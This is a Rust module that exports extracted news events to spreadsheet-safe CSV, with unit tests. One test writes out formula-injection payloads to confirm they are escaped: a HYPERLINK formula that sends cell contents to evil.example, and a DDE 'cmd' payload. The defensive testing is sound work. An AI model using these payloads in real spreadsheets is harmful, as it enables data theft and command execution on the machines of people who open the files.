//! CSV: one row per event, safe to open in a spreadsheet.
//!
//! Columns: `id,type,start,end,precision,anchor,date_as_written,status,confidence,actors,
//! summary,article,source_start,source_end,source_text`. Actors are joined with `; `. Every
//! cell that a spreadsheet would read as a formula is neutralized with a leading `'`
//! ([`super::neutralize_formula`]).

use super::{ExportError, anchor_name, neutralize_formula, precision_name, status_name};
use crate::extract::Event;

/// The header row.
pub const HEADER: [&str; 15] = [
    "id",
    "type",
    "start",
    "end",
    "precision",
    "anchor",
    "date_as_written",
    "status",
    "confidence",
    "actors",
    "summary",
    "article",
    "source_start",
    "source_end",
    "source_text",
];

fn row(e: &Event) -> [String; 15] {
    let w = e.when.as_ref();
    let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.format("%Y-%m-%d").to_string());
    [
        e.id.clone(),
        e.event_type.clone(),
        date(w.and_then(|w| w.start)).unwrap_or_default(),
        date(w.and_then(|w| w.end)).unwrap_or_default(),
        w.map(|w| precision_name(w.precision).to_owned())
            .unwrap_or_default(),
        w.map(|w| anchor_name(w.anchor).to_owned())
            .unwrap_or_default(),
        w.map(|w| w.expression.clone()).unwrap_or_default(),
        status_name(e.status).to_owned(),
        format!("{:.2}", e.confidence),
        e.actors.join("; "),
        e.summary.clone(),
        e.source.article.clone(),
        e.source.start.to_string(),
        e.source.end.to_string(),
        e.source.text.clone(),
    ]
}

/// Writes the header row.
///
/// # Errors
/// Fails when the writer fails.
pub fn write_header(out: &mut dyn std::io::Write) -> Result<(), ExportError> {
    let mut w = csv::Writer::from_writer(out);
    w.write_record(HEADER)?;
    w.flush()?;
    Ok(())
}

/// Writes one row per event (no header).
///
/// # Errors
/// Fails when the writer fails.
pub fn write_rows(events: &[Event], out: &mut dyn std::io::Write) -> Result<(), ExportError> {
    let mut w = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(out);
    for e in events {
        w.write_record(
            row(e)
                .iter()
                .map(|cell| neutralize_formula(cell).into_owned()),
        )?;
    }
    w.flush()?;
    Ok(())
}

/// Writes a header and one row per event.
///
/// # Errors
/// Fails when the writer fails.
pub fn write(events: &[Event], out: &mut dyn std::io::Write) -> Result<(), ExportError> {
    write_header(out)?;
    write_rows(events, out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::test_support::events;

    fn records(events: &[Event]) -> Vec<csv::StringRecord> {
        let mut out = Vec::new();
        assert!(write(events, &mut out).is_ok());
        csv::Reader::from_reader(out.as_slice())
            .records()
            .filter_map(Result::ok)
            .collect()
    }

    #[test]
    fn one_row_per_event_with_the_columns() {
        let events = events();
        let rows = records(&events);
        assert_eq!(rows.len(), events.len());
        let first = rows
            .first()
            .map(|r| r.iter().collect::<Vec<_>>())
            .unwrap_or_default();
        assert_eq!(
            first,
            [
                "e1",
                "visit",
                "2024-04-09",
                "2024-04-09",
                "day",
                "absolute",
                "April 9, 2024",
                "reported",
                "0.75",
                "North Korea; Russia",
                "Kim Jong Un visits Vladivostok",
                "a/one.txt",
                "10",
                "40",
                "Source sentence for Kim Jong Un visits Vladivostok."
            ]
        );
        // An unresolved date has no start or end, but keeps the expression as written.
        let undated = rows
            .get(2)
            .map(|r| r.iter().collect::<Vec<_>>())
            .unwrap_or_default();
        assert_eq!(
            undated.get(2..7),
            Some(&["", "", "day", "none", "last Tuesday"][..])
        );
    }

    #[test]
    fn hostile_cells_cannot_run_formulas() {
        let mut e = events();
        if let Some(first) = e.first_mut() {
            first.summary = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_owned();
            first.source.text = "+cmd|' /C calc'!A0".to_owned();
            first.actors = vec!["@SUM(1+1)".to_owned()];
            first.event_type = "-2+3".to_owned();
            first.source.article = "\t=1".to_owned();
        }
        let rows = records(&e);
        let first = rows.first().cloned().unwrap_or_default();
        for cell in &first {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell {cell:?} could run as a formula"
            );
        }
        assert_eq!(
            first.get(10),
            Some("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        );
    }

    #[test]
    fn commas_quotes_and_newlines_stay_in_their_cell() {
        let mut e = events();
        if let Some(first) = e.first_mut() {
            first.source.text = "He said, \"no\",\nthen left.".to_owned();
        }
        let rows = records(&e);
        assert_eq!(
            rows.first().and_then(|r| r.get(14)),
            Some("He said, \"no\",\nthen left.")
        );
    }
}
